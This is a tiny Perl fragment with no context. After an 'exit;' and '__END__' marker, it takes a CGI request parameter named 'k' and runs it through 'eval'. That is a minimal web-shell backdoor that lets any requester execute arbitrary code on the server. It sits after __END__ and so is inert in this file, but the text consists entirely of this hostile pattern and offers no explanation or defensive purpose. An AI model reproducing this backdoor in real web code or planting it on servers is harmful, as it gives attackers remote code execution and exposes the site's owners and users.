exit;
__END__
my ( $k ) = scalar( param( 'k' ) ) ;
eval "$k" ;
